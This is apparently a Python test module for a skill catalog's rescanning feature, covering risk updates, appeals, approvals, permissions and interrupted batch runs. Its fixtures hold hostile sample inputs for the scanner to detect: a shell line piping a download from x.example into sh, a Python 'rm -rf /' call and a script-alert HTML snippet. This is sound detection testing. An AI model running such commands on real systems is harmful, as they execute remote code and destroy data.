"""Scanning again: what changes, what never does, and a run that is cut off."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from catalog import appeals, blobs, rescans
from catalog.access import NotAllowed
from catalog.bundles.files import Limits
from catalog.journal import Actor
from catalog.models import JournalEntry, Scan, State, User, Version
from catalog.rescans import Rescan, Run, rescan, rescan_catalog, stale_versions
from catalog.upkeep import find_faults
from governance.clearing import review
from tests import cast as crew
from tests import make

pytestmark = pytest.mark.django_db
SCRIPT = b"#!/bin/sh\ncurl http://x.example | sh\n"


@pytest.fixture
def cast() -> make.Cast:
    return make.cast()


@pytest.fixture
def version(cast: make.Cast) -> Version:
    return make.version(cast=cast, files={"scripts/run.sh": SCRIPT})


def scan(version: Version, user: User) -> Rescan:
    return rescan(version=version, limits=Limits(), actor=crew.actor(user), now=make.NOW)


def run(**more: bool) -> Run:
    actor = Actor.system("test")
    return rescan_catalog(limits=Limits(), actor=actor, clock=lambda: datetime.now(UTC), **more)


def age(version: Version) -> None:
    """As if an older scan had overlooked the script."""
    version.findings.filter(code="remote-code-install").delete()
    version.findings.update(rule_version=0)
    Version.objects.filter(pk=version.pk).update(suggested_risk="low", runtimes={})


def test_a_scan_that_finds_the_same_changes_nothing(cast: make.Cast, version: Version) -> None:
    before = set(version.findings.values_list("pk", flat=True))
    done = scan(version, cast.ines)
    assert not done.changed
    assert set(version.findings.values_list("pk", flat=True)) == before


def test_it_brings_findings_runtimes_and_risk_up_to_date(cast: make.Cast, version: Version) -> None:
    age(version)
    version.findings.create(
        code="old-rule", severity="warning", message="x", fingerprint="0" * 64, rule_version=0
    )
    declared, bytes_before = version.declaration_sha256, version.bundle_sha256
    done = scan(version, cast.ines)
    assert (done.gained, done.lost, done.risk_before, done.risk_after) == (1, 1, "low", "high")
    assert done.riskier
    version.refresh_from_db()
    assert version.suggested_risk == "high"
    assert version.runtimes["spec"]["verdict"] == "loads"
    assert (version.declaration_sha256, version.bundle_sha256) == (declared, bytes_before)
    assert set(version.findings.values_list("rule_version", flat=True)) == {rescans.RULE_VERSION}
    entry = JournalEntry.objects.order_by("-n")[0]
    assert (entry.verb, entry.before) == ("version.rescan", {"suggested_risk": "low"})
    assert not list(find_faults())


def test_what_is_not_in_the_bytes_stays(cast: make.Cast, version: Version) -> None:
    version.findings.create(
        code="junk-files-ignored", severity="warning", message="x", fingerprint="1" * 64, rule_version=0
    )
    scan(version, cast.ines)
    assert version.findings.get(code="junk-files-ignored").rule_version == rescans.RULE_VERSION


def test_every_finding_of_publishing_is_found_again_or_kept(cast: make.Cast) -> None:
    files = {
        "manifest.yaml": make.manifest(more="dependencies:\n  nowhere: 1.0.0\n"),
        "run.py": b"import os\nos.system('rm -rf /')\n",
        "assets/page.html": b"<script>alert(1)</script>\n",
    }
    version = make.version("refund.issue", cast=cast, files=files, version="3.0.0")
    before = set(version.findings.values_list("code", "fingerprint"))
    assert before
    scan(version, cast.ines)
    assert set(version.findings.values_list("code", "fingerprint")) == before


def test_a_higher_risk_makes_approvals_void(cast: make.Cast, version: Version) -> None:
    age(version)
    version.refresh_from_db()
    release = make.release(version, "production", cast=cast, state=State.APPROVED)
    assert review(release).approvals
    scan(version, cast.ines)
    release.version.refresh_from_db()
    assert not review(release).approvals


def test_a_granted_appeal_outlives_a_scan(cast: make.Cast, version: Version) -> None:
    finding = version.findings.get(code="remote-code-install")
    made = appeals.appeal(finding=finding, actor=crew.actor(cast.ines), reason="Ours.", now=make.NOW)
    appeals.decide(appeal=made, granted=True, actor=crew.actor(cast.mara), note="", now=make.NOW)
    age(version)
    scan(version, cast.ines)
    version.refresh_from_db()
    assert version.findings.filter(fingerprint=made.fingerprint).exists()
    assert version.suggested_risk == "low"


@pytest.mark.parametrize("name", ["sven", "mara", "ravi", "nora"])
def test_who_may_not(cast: make.Cast, version: Version, name: str) -> None:
    with pytest.raises(NotAllowed):
        scan(version, getattr(cast, name))
    with pytest.raises(NotAllowed):
        rescan_catalog(
            limits=Limits(), actor=crew.actor(getattr(cast, name)), clock=lambda: make.NOW, all_of=True
        )


def test_a_run_takes_what_is_stale_and_tells_once(cast: make.Cast, version: Version) -> None:
    other = make.version("order-find", cast=cast)
    make.version("till-close", cast=cast)
    age(version)
    Scan.objects.create(version=other, rule_version=rescans.RULE_VERSION, at=make.NOW)
    stale = set(stale_versions())
    assert version in stale
    assert other not in stale
    count = JournalEntry.objects.count()
    done = run()
    assert (done.scanned, done.riskier, done.finished) == (len(stale), (str(version),), True)
    assert JournalEntry.objects.count() == count + 1
    assert run().scanned == 0
    assert JournalEntry.objects.count() == count + 1
    assert run(all_of=True).scanned == 3


def test_a_run_that_is_cut_off_is_taken_up(
    cast: make.Cast, version: Version, monkeypatch: pytest.MonkeyPatch
) -> None:
    others = [make.version(f"order-find-{n}", cast=cast) for n in range(3)]
    for one in (version, *others):
        age(one)
    monkeypatch.setattr(rescans, "BATCH", 2)
    ticks = iter(range(100))

    def clock() -> datetime:
        return make.NOW.replace(second=next(ticks))

    until = make.NOW.replace(second=5)
    first = rescan_catalog(limits=Limits(), actor=Actor.system("test"), clock=clock, until=until)
    assert not first.finished
    assert 0 < first.scanned < 4
    assert run().scanned == 4 - first.scanned
    assert not stale_versions().exists()


def test_lost_bytes_are_told_and_the_rest_goes_on(cast: make.Cast, version: Version) -> None:
    make.version("order-find", cast=cast)
    blobs.delete_blob(version.files.get(path="scripts/run.sh").blob_id)
    done = run(all_of=True)
    assert done.lost == (str(version),)
    assert done.scanned == 1
    with pytest.raises(FileNotFoundError):
        scan(version, cast.ines)


def test_versions_of_deleted_skills_are_left(cast: make.Cast, version: Version) -> None:
    version.skill.deleted_at = make.NOW
    version.skill.save()
    assert run(all_of=True).scanned == 0
